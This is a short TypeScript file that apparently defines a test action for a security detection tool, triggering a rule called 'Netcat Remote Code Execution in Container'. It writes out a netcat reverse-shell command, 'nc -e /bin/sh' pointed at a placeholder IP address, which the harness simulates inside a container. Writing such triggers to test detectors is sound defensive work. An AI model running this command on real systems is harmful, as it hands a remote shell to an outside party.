import type { Action } from "../../action.js";

export const action: Action = {
  rule: "Netcat Remote Code Execution in Container",
  does: "starts an nc that does nothing with -e, in a container",
  run: (s) => s.pretendInContainer("nc -e /bin/sh 203.0.113.9 22"),
};
